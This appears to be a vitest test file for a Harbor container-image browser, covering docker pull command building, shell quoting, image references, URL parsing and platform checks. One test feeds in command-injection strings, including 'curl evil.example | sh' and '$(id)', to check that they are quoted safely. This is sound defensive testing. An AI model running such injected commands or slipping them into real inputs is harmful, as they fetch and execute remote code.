// @vitest-environment node
import { describe, expect, it } from 'vitest';
import { imagePlatform } from '@/api/harbor/image-platform';
import {
  artifactReference,
  dockerPullCommand,
  launchableTypes,
  pullReference,
  shellQuote,
  shortDigest,
} from './image-reference';
import { parseRepositorySplat, readPageParam } from './route-params';

const DIGEST = 'sha256:5b0f7c2e9d3a41f6a8e2c1d94b7a60e3f2c8d19a4e6b3c7f0a1d2e3f4a5b6c7d';
const tagged = { digest: DIGEST, tags: [{ name: '26.03' }, { name: 'latest' }] };
const untagged = { digest: DIGEST, tags: [] };

describe('the docker pull command', () => {
  it('leaves a plain reference as it is', () => {
    expect(dockerPullCommand(`images.canfar.net:5000/skaha/astro_ml-1:26.03@${DIGEST}`)).toBe(
      `docker pull images.canfar.net:5000/skaha/astro_ml-1:26.03@${DIGEST}`,
    );
  });

  it('single-quotes a reference with anything a shell would read, escaping its quotes', () => {
    expect(dockerPullCommand('h/p/r:1; curl evil.example | sh')).toBe(
      "docker pull 'h/p/r:1; curl evil.example | sh'",
    );
    expect(dockerPullCommand("h/p/it's:$(id)")).toBe("docker pull 'h/p/it'\\''s:$(id)'");
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote('`x`')).toBe("'`x`'");
    expect(shellQuote('')).toBe("''");
  });
});

describe('image references', () => {
  it('pulls by the tag the user came by, else the first tag, else by digest', () => {
    expect(pullReference('images.canfar.net', 'skaha', 'astroml', tagged, 'latest')).toBe(
      'images.canfar.net/skaha/astroml:latest',
    );
    expect(pullReference('images.canfar.net', 'skaha', 'team/astroml', tagged, DIGEST)).toBe(
      'images.canfar.net/skaha/team/astroml:26.03',
    );
    expect(pullReference('h', 'p', 'r', untagged)).toBe(`h/p/r@${DIGEST}`);
    expect(dockerPullCommand('h/p/r:1')).toBe('docker pull h/p/r:1');
    expect(artifactReference(tagged)).toBe('26.03');
    expect(artifactReference(untagged)).toBe(DIGEST);
  });

  it('offers the session types skaha launches, in its order, whatever the label case', () => {
    expect(launchableTypes([{ name: 'desktop-app' }, { name: 'Headless' }, { name: 'notebook' }])).toEqual([
      'notebook',
      'headless',
    ]);
    expect(launchableTypes([{ name: 'desktop-app' }, { name: 'gpu' }])).toEqual([]);
  });

  it('shortens a digest as Harbor does', () => {
    expect(shortDigest(DIGEST)).toBe('sha256:5b0f7c2e9d3a');
    expect(shortDigest('abcdef0123456789')).toBe('abcdef012345');
  });
});

describe('images URLs', () => {
  it('splits a repository with slashes from the artifact reference at /-/', () => {
    expect(parseRepositorySplat('team/astroml-gpu')).toEqual({ repository: 'team/astroml-gpu' });
    expect(parseRepositorySplat('team/astroml-gpu/-/26.03')).toEqual({
      repository: 'team/astroml-gpu',
      reference: '26.03',
    });
    expect(parseRepositorySplat(`astroml/-/${DIGEST}`)).toEqual({ repository: 'astroml', reference: DIGEST });
    expect(parseRepositorySplat('astroml/-/')).toEqual({ repository: 'astroml' });
  });

  it('reads a page number, falling back to 1', () => {
    expect(readPageParam('3')).toBe(3);
    for (const bad of [null, '', '0', '-2', '1.5', 'x']) expect(readPageParam(bad)).toBe(1);
  });

  it('offers an image only when the platform’s linux/amd64 nodes can run it', () => {
    const single = (os: string | undefined, architecture: string | undefined) => ({
      extra_attrs: { os, architecture },
      references: [],
    });
    expect(imagePlatform(single('linux', 'amd64'))).toEqual({ runs: true, platform: 'linux/amd64' });
    expect(imagePlatform(single('linux', 'arm64'))).toEqual({ runs: false, platform: 'linux/arm64' });
    expect(imagePlatform(single(undefined, undefined))).toEqual({ runs: true, platform: undefined });
    // half known is still shown, the unknown half as "?"
    expect(imagePlatform(single(undefined, 'arm64')).platform).toBe('?/arm64');
    const index = (...architectures: string[]) => ({
      extra_attrs: {},
      references: architectures.map((architecture) => ({ platform: { os: 'linux', architecture } })),
    });
    expect(imagePlatform(index('arm64', 'amd64')).runs).toBe(true);
    expect(imagePlatform(index('arm64', 'ppc64le'))).toEqual({
      runs: false,
      platform: 'linux/arm64, linux/ppc64le',
    });
  });
});
